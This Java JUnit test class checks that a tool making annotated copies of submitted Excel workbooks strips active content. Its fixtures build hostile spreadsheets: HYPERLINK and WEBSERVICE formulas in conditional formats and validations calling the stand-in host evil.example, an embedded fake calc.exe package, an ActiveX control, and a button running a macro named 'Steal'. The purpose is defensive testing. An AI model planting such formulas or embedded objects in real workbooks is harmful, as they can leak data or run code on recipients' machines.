package vn.qms.stats.ingest.annotate;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.function.UnaryOperator;

import org.apache.poi.hssf.usermodel.HSSFPatriarch;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackageAccess;
import org.apache.poi.openxml4j.opc.PackagePart;
import org.apache.poi.openxml4j.opc.PackageRelationshipTypes;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.ClientAnchor;
import org.apache.poi.ss.usermodel.ComparisonOperator;
import org.apache.poi.ss.usermodel.ConditionalFormatting;
import org.apache.poi.ss.usermodel.ConditionalFormattingRule;
import org.apache.poi.ss.usermodel.DataValidation;
import org.apache.poi.ss.usermodel.DataValidationConstraint;
import org.apache.poi.ss.usermodel.DataValidationHelper;
import org.apache.poi.ss.usermodel.Drawing;
import org.apache.poi.ss.usermodel.IndexedColors;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.SheetConditionalFormatting;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.ss.util.CellRangeAddressList;
import org.apache.poi.ss.util.CellReference;
import org.apache.poi.xssf.usermodel.XSSFClientAnchor;
import org.apache.poi.xssf.usermodel.XSSFDrawing;
import org.apache.poi.xssf.usermodel.XSSFRelation;
import org.apache.poi.xssf.usermodel.XSSFShape;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFSimpleShape;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import vn.qms.stats.ingest.Problem;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Nothing active from an input reaches its annotated copy: no conditional format or data
 * validation whose formula computes, no embedded object, no control, no shape that starts
 * a macro or leads out; the values, the plain rules, the shapes themselves and the
 * comments (the sender's and the product's) stay.
 */
class AnnotatedCopyActiveContentTests {

	private static final String SHEET = "BM01";

	private static final String EVIL = "evil.example";

	private static final String MACRO = "Steal";

	private static final String SENDERS_TEXT = "Số liệu đã kiểm tra";

	private static final String X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main";

	private static final String XM = "http://schemas.microsoft.com/office/excel/2006/main";

	@TempDir
	Path folder;

	@ParameterizedTest
	@ValueSource(strings = { "xlsx", "xls" })
	void shouldDropTheConditionalFormatsAndValidationsWhoseFormulasComputeAndKeepThePlainOnes(String extension)
			throws Exception {
		// given: a rule and a validation that call out, next to plain ones
		Path file = this.folder.resolve("rules." + extension);
		try (Workbook workbook = extension.equals("xls") ? new HSSFWorkbook() : new XSSFWorkbook()) {
			Sheet sheet = values(workbook);
			SheetConditionalFormatting formatting = sheet.getSheetConditionalFormatting();
			formatting.addConditionalFormatting(ranges("A10:A20"),
					formatting.createConditionalFormattingRule("LEN(HYPERLINK(\"http://evil.example/cf\",\"x\"))>0"));
			formatting.addConditionalFormatting(ranges("B10:B20"),
					formatting.createConditionalFormattingRule(ComparisonOperator.GT, "100"));
			DataValidationHelper helper = sheet.getDataValidationHelper();
			sheet.addValidationData(helper.createValidation(
					helper.createCustomConstraint("LEN(HYPERLINK(\"http://evil.example/dv\",\"x\"))>0"),
					new CellRangeAddressList(9, 19, 2, 2)));
			sheet.addValidationData(
					helper.createValidation(helper.createExplicitListConstraint(new String[] { "Có", "Không" }),
							new CellRangeAddressList(9, 19, 3, 3)));
			sheet.addValidationData(helper.createValidation(
					helper.createDecimalConstraint(DataValidationConstraint.OperatorType.BETWEEN, "0", "=$H$1"),
					new CellRangeAddressList(9, 19, 4, 4)));
			try (OutputStream out = Files.newOutputStream(file)) {
				workbook.write(out);
			}
		}
		if (extension.equals("xlsx")) {
			extensions(file);
		}
		assertThat(text(file)).contains(EVIL);
		// when
		Annotation annotation = new AnnotatedCopy().write(file, List.of(wrong("E12")));
		// then
		assertThat(annotation.copy()).isNotNull();
		assertThat(text(annotation.copy())).doesNotContain(EVIL);
		try (Workbook copy = CopiedWorkbooks.open(annotation.copy())) {
			Sheet sheet = copy.getSheet(SHEET);
			SheetConditionalFormatting formatting = sheet.getSheetConditionalFormatting();
			assertThat(formatting.getNumConditionalFormattings()).isEqualTo(1);
			ConditionalFormatting kept = formatting.getConditionalFormattingAt(0);
			assertThat(kept.getFormattingRanges()).extracting(CellRangeAddress::formatAsString)
				.containsExactly("B10:B20");
			assertThat(kept.getRule(0)).extracting(ConditionalFormattingRule::getFormula1).isEqualTo("100");
			assertThat(sheet.getDataValidations()).hasSize(2)
				.extracting(DataValidation::getValidationConstraint)
				.anySatisfy((list) -> assertThat(list.getExplicitListValues()).containsExactly("Có", "Không"))
				.anySatisfy((between) -> assertThat(between.getFormula2()).isEqualTo("$H$1"));
			assertThat(cell(copy, "E12").getNumericCellValue()).isEqualTo(114);
			assertThat(cell(copy, "E12").getCellStyle().getFillForegroundColor())
				.isEqualTo(IndexedColors.RED.getIndex());
			assertThat(cell(copy, "E12").getCellComment()).isNotNull();
		}
		if (extension.equals("xlsx")) {
			// Excel 2010's rules: the one that calls out went, the list from another
			// sheet stayed
			assertThat(CopiedWorkbooks.entries(annotation.copy()))
				.filteredOn((entry) -> entry.startsWith("xl/worksheets/sheet"))
				.singleElement()
				.satisfies((sheet) -> assertThat(sheet).contains("'Danh mục'!$A$1:$A$3")
					.contains("count=\"1\"")
					.doesNotContain("{78C0D931-6437-407d-A8EE-F0AAD7539E65}"));
		}
	}

	@Test
	void shouldLeaveTheObjectsAndControlsOfAnXlsxOutOfItsCopyAndKeepTheComments() throws Exception {
		// given: a packaged program, an ActiveX control, a form button with a macro, the
		// sender's comment on A1, and shapes with a macro and links
		Path file = this.folder.resolve("objects.xlsx");
		try (XSSFWorkbook workbook = new XSSFWorkbook()) {
			XSSFSheet sheet = (XSSFSheet) values(workbook);
			XSSFDrawing drawing = sheet.createDrawingPatriarch();
			comment(workbook, drawing, sheet);
			int storage = workbook.addOlePackage("MZ calc.exe".getBytes(StandardCharsets.US_ASCII), "Bang gia",
					"calc.exe", "calc.exe");
			int picture = workbook.addPicture(new byte[] { (byte) 0x89, 'P', 'N', 'G' }, Workbook.PICTURE_TYPE_PNG);
			drawing.createObjectData(new XSSFClientAnchor(0, 0, 0, 0, 8, 2, 10, 6), storage, picture);
			XSSFSimpleShape button = drawing.createSimpleShape(new XSSFClientAnchor(0, 0, 0, 0, 8, 8, 10, 10));
			button.getCTShape().setMacro("[0]!" + MACRO);
			button.setText("Gửi báo cáo");
			link(drawing, drawing.createSimpleShape(new XSSFClientAnchor(0, 0, 0, 0, 8, 12, 10, 14)),
					"http://evil.example/shape");
			link(drawing, drawing.createSimpleShape(new XSSFClientAnchor(0, 0, 0, 0, 8, 16, 10, 18)),
					"#'" + SHEET + "'!A10");
			try (OutputStream out = Files.newOutputStream(file)) {
				workbook.write(out);
			}
		}
		controls(file);
		assertThat(CopiedWorkbooks.entries(file)).anyMatch((entry) -> entry.startsWith("xl/embeddings/"))
			.anyMatch((entry) -> entry.startsWith("xl/activeX/activeX1.bin"))
			.anyMatch((entry) -> entry.startsWith("xl/ctrlProps/"))
			.anyMatch((entry) -> entry.contains("FmlaMacro"));
		// when
		Annotation annotation = new AnnotatedCopy().write(file, List.of(wrong("E10")));
		// then
		assertThat(annotation.copy()).isNotNull();
		assertThat(CopiedWorkbooks.entries(annotation.copy())).noneMatch((entry) -> entry.startsWith("xl/embeddings/"))
			.noneMatch((entry) -> entry.startsWith("xl/activeX/"))
			.noneMatch((entry) -> entry.startsWith("xl/ctrlProps/"))
			.noneMatch((entry) -> entry.contains("calc.exe"))
			.noneMatch((entry) -> entry.contains(EVIL))
			.noneMatch((entry) -> entry.contains(MACRO))
			.noneMatch((entry) -> entry.contains("FmlaMacro"))
			.filteredOn((entry) -> entry.startsWith("xl/worksheets/sheet1.xml "))
			.singleElement()
			.satisfies((sheet) -> assertThat(sheet).doesNotContain("oleObject").doesNotContain("control"));
		try (XSSFWorkbook copy = (XSSFWorkbook) CopiedWorkbooks.open(annotation.copy())) {
			assertThat(copy.getAllEmbeddedParts()).isEmpty();
			assertThat(cell(copy, "A1").getCellComment().getString().getString()).isEqualTo(SENDERS_TEXT);
			assertThat(cell(copy, "E10").getCellComment().getString().getString()).startsWith("Lỗi: ");
			assertThat(cell(copy, "E10").getNumericCellValue()).isEqualTo(94);
			List<XSSFShape> shapes = copy.getSheet(SHEET).getDrawingPatriarch().getShapes();
			assertThat(shapes).hasSize(3)
				.allSatisfy((shape) -> assertThat(shape).isInstanceOf(XSSFSimpleShape.class))
				.anySatisfy((shape) -> assertThat(((XSSFSimpleShape) shape).getText()).isEqualTo("Gửi báo cáo"));
			assertThat(shapes)
				.filteredOn((shape) -> ((XSSFSimpleShape) shape).getCTShape().getNvSpPr().getCNvPr().isSetHlinkClick())
				.singleElement()
				.satisfies((shape) -> {
					String id = ((XSSFSimpleShape) shape).getCTShape().getNvSpPr().getCNvPr().getHlinkClick().getId();
					assertThat(shape.getDrawing().getPackagePart().getRelationship(id).getTargetURI())
						.hasToString("#'" + SHEET + "'!A10");
				});
		}
	}

	@Test
	void shouldLeaveTheContentOfTheEmbeddedObjectsOfAnXlsOutOfItsCopyAndKeepTheComments() throws Exception {
		// given: a packaged program on the sheet and the sender's comment on A1
		Path file = this.folder.resolve("objects.xls");
		try (HSSFWorkbook workbook = new HSSFWorkbook()) {
			Sheet sheet = values(workbook);
			HSSFPatriarch drawing = (HSSFPatriarch) sheet.createDrawingPatriarch();
			comment(workbook, drawing, sheet);
			int storage = workbook.addOlePackage("MZ calc.exe".getBytes(StandardCharsets.US_ASCII), "Bang gia",
					"calc.exe", "calc.exe");
			int picture = workbook.addPicture(new byte[] { (byte) 0x89, 'P', 'N', 'G' }, Workbook.PICTURE_TYPE_PNG);
			drawing.createObjectData(workbook.getCreationHelper().createClientAnchor(), storage, picture);
			try (OutputStream out = Files.newOutputStream(file)) {
				workbook.write(out);
			}
		}
		try (POIFSFileSystem fs = new POIFSFileSystem(file.toFile(), true)) {
			assertThat(fs.getRoot().getEntryNames()).anyMatch((entry) -> entry.startsWith("MBD"));
		}
		// when
		Annotation annotation = new AnnotatedCopy().write(file, List.of(wrong("E10")));
		// then: the object's shape (which POI cannot remove) stays, leading to nothing
		assertThat(annotation.copy()).isEqualTo(this.folder.resolve("objects.xls.annotated.xls"));
		try (HSSFWorkbook copy = (HSSFWorkbook) CopiedWorkbooks.open(annotation.copy())) {
			assertThat(cell(copy, "A1").getCellComment().getString().getString()).isEqualTo(SENDERS_TEXT);
			assertThat(cell(copy, "E10").getCellComment().getString().getString()).startsWith("Lỗi: ");
			assertThat(cell(copy, "E10").getNumericCellValue()).isEqualTo(94);
		}
		try (POIFSFileSystem fs = new POIFSFileSystem(annotation.copy().toFile(), true)) {
			assertThat(fs.getRoot().getEntryNames()).noneMatch((entry) -> entry.startsWith("MBD"))
				.doesNotContain("ObjectPool");
		}
		assertThat(new String(Files.readAllBytes(annotation.copy()), StandardCharsets.ISO_8859_1))
			.doesNotContain("calc.exe");
	}

	/** Sheet BM01 with numbers in A10:F25 (row * 10 + column) and text in A1. */
	private static Sheet values(Workbook workbook) {
		Sheet sheet = workbook.createSheet(SHEET);
		sheet.createRow(0).createCell(0).setCellValue("Báo cáo");
		for (int r = 9; r < 25; r++) {
			Row row = sheet.createRow(r);
			for (int c = 0; c < 6; c++) {
				row.createCell(c).setCellValue(r * 10 + c);
			}
		}
		return sheet;
	}

	private static void comment(Workbook workbook, Drawing<?> drawing, Sheet sheet) {
		ClientAnchor anchor = workbook.getCreationHelper().createClientAnchor();
		anchor.setCol1(1);
		anchor.setCol2(4);
		anchor.setRow1(0);
		anchor.setRow2(4);
		var comment = drawing.createCellComment(anchor);
		comment.setString(workbook.getCreationHelper().createRichTextString(SENDERS_TEXT));
		comment.setAuthor("Nguyen Van A");
		sheet.getRow(0).getCell(0).setCellComment(comment);
	}

	/** A click on the shape follows this address. */
	private static void link(XSSFDrawing drawing, XSSFSimpleShape shape, String address) {
		String id = drawing.getPackagePart()
			.addExternalRelationship(address, PackageRelationshipTypes.HYPERLINK_PART)
			.getId();
		shape.getCTShape().getNvSpPr().getCNvPr().addNewHlinkClick().setId(id);
	}

	/**
	 * Excel 2010's extensions of the sheet: a rule and a validation that call out, and a
	 * drop-down list read from another sheet.
	 */
	private static void extensions(Path file) throws Exception {
		String x14 = " xmlns:x14=\"" + X14 + "\" xmlns:xm=\"" + XM + "\"";
		String list = "<extLst xmlns=\"" + XSSFRelation.NS_SPREADSHEETML + "\">"
				+ "<ext uri=\"{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}\"" + x14 + "><x14:dataValidations count=\"2\">"
				+ "<x14:dataValidation type=\"list\"><x14:formula1>"
				+ "<xm:f>WEBSERVICE(\"http://evil.example/x14\")</xm:f></x14:formula1><xm:sqref>F10</xm:sqref>"
				+ "</x14:dataValidation><x14:dataValidation type=\"list\"><x14:formula1>"
				+ "<xm:f>'Danh mục'!$A$1:$A$3</xm:f></x14:formula1><xm:sqref>F11</xm:sqref></x14:dataValidation>"
				+ "</x14:dataValidations></ext>" + "<ext uri=\"{78C0D931-6437-407d-A8EE-F0AAD7539E65}\"" + x14
				+ "><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"expression\" priority=\"9\""
				+ " id=\"{00000000-0000-0000-0000-000000000001}\"><xm:f>WEBSERVICE(\"http://evil.example/x14cf\")</xm:f>"
				+ "</x14:cfRule><xm:sqref>A10:A20</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings>"
				+ "</ext></extLst>";
		rewrite(file, "/xl/worksheets/sheet1.xml", (xml) -> endOfRoot(xml, "worksheet", list));
	}

	/**
	 * Adds to the saved workbook, as Excel writes them: an ActiveX control with its
	 * binary and a form button with its properties, listed in the sheet inside
	 * {@code mc:AlternateContent}, and the button's shape with its macro in the legacy
	 * drawing, beside the sender's comment.
	 */
	private static void controls(Path file) throws Exception {
		try (OPCPackage opc = OPCPackage.open(file.toFile(), PackageAccess.READ_WRITE)) {
			PackagePart sheet = opc.getPart(PackagingURIHelper.createPartName("/xl/worksheets/sheet1.xml"));
			PackagePart activeX = part(opc, "/xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml",
					"<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\""
							+ " ax:classid=\"{D7053240-CE69-11CD-A777-00DD01143C57}\"/>");
			PackagePart binary = part(opc, "/xl/activeX/activeX1.bin", "application/vnd.ms-office.activeX", "calc.exe");
			activeX.addRelationship(binary.getPartName(), TargetMode.INTERNAL, XSSFRelation.ACTIVEX_BINS.getRelation());
			PackagePart properties = part(opc, "/xl/ctrlProps/ctrlProp1.xml",
					"application/vnd.ms-excel.controlproperties+xml",
					"<formControlPr xmlns=\"" + X14 + "\" objectType=\"Button\" lockText=\"1\"/>");
			String activeXId = sheet
				.addRelationship(activeX.getPartName(), TargetMode.INTERNAL,
						XSSFRelation.ACTIVEX_CONTROLS.getRelation())
				.getId();
			String buttonId = sheet
				.addRelationship(properties.getPartName(), TargetMode.INTERNAL,
						XSSFRelation.CTRL_PROP_RECORDS.getRelation())
				.getId();
			String mc = "http://schemas.openxmlformats.org/markup-compatibility/2006";
			String controls = "<mc:AlternateContent xmlns:mc=\"" + mc + "\" xmlns:r=\"" + XmlElements.RELATIONSHIPS
					+ "\" xmlns=\"" + XSSFRelation.NS_SPREADSHEETML + "\"><mc:Choice Requires=\"x14\"><controls>"
					+ "<mc:AlternateContent><mc:Choice Requires=\"x14\"><control shapeId=\"1030\" r:id=\"" + buttonId
					+ "\" name=\"Button 1\"><controlPr defaultSize=\"0\" macro=\"[0]!" + MACRO + "\"/></control>"
					+ "</mc:Choice></mc:AlternateContent><control shapeId=\"1031\" r:id=\"" + activeXId
					+ "\" name=\"CommandButton1\"/></controls></mc:Choice></mc:AlternateContent>";
			replace(sheet, (xml) -> endOfRoot(xml, "worksheet", controls));
			PackagePart vml = opc.getPartsByContentType("application/vnd.openxmlformats-officedocument.vmlDrawing")
				.get(0);
			String button = "<v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\""
					+ " id=\"_x0000_s1030\" type=\"#_x0000_t201\" style=\"position:absolute\"><x:ClientData ObjectType=\"Button\">"
					+ "<x:Anchor>8, 0, 20, 0, 10, 0, 22, 0</x:Anchor><x:FmlaMacro>[0]!" + MACRO + "</x:FmlaMacro>"
					+ "</x:ClientData></v:shape>";
			replace(vml, (xml) -> endOfRoot(xml, "xml", button));
		}
	}

	private static PackagePart part(OPCPackage opc, String name, String contentType, String content) throws Exception {
		PackagePart part = opc.createPart(PackagingURIHelper.createPartName(name), contentType);
		try (OutputStream out = part.getOutputStream()) {
			out.write(content.getBytes(StandardCharsets.UTF_8));
		}
		return part;
	}

	private static void rewrite(Path file, String name, UnaryOperator<String> change) throws Exception {
		try (OPCPackage opc = OPCPackage.open(file.toFile(), PackageAccess.READ_WRITE)) {
			replace(opc.getPart(PackagingURIHelper.createPartName(name)), change);
		}
	}

	private static void replace(PackagePart part, UnaryOperator<String> change) throws IOException {
		String xml;
		try (InputStream in = part.getInputStream()) {
			xml = new String(in.readAllBytes(), StandardCharsets.UTF_8);
		}
		String changed = change.apply(xml);
		assertThat(changed).isNotEqualTo(xml);
		try (OutputStream out = part.getOutputStream()) {
			out.write(changed.getBytes(StandardCharsets.UTF_8));
		}
	}

	/** The XML with this inserted before the end tag of its root element. */
	private static String endOfRoot(String xml, String root, String inserted) {
		int end = xml.lastIndexOf("</");
		assertThat(xml.substring(end)).contains(root);
		return xml.substring(0, end) + inserted + xml.substring(end);
	}

	private static CellRangeAddress[] ranges(String range) {
		return new CellRangeAddress[] { CellRangeAddress.valueOf(range) };
	}

	/**
	 * The text of a file: its entries for an {@code .xlsx}, its bytes read as Latin-1 and
	 * as UTF-16 (from an even and an odd byte) for an {@code .xls}.
	 */
	private static String text(Path file) throws IOException {
		if (file.toString().endsWith(".xlsx")) {
			return String.join("\n", CopiedWorkbooks.entries(file));
		}
		byte[] bytes = Files.readAllBytes(file);
		return new String(bytes, StandardCharsets.ISO_8859_1) + new String(bytes, StandardCharsets.UTF_16LE)
				+ new String(bytes, 1, bytes.length - 1, StandardCharsets.UTF_16LE);
	}

	private static Problem wrong(String address) {
		CellReference reference = new CellReference(address);
		return Problem.error("ingest.rule.not.greater", "E", "D", "30 > 12", "Số đã công bố", "Số bắt buộc")
			.inSheet(SHEET)
			.at(reference.getRow() + 1, reference.getCol(), "Số đã công bố", "30");
	}

	private static org.apache.poi.ss.usermodel.Cell cell(Workbook workbook, String address) {
		return CopiedWorkbooks.cell(workbook, SHEET, address);
	}

}
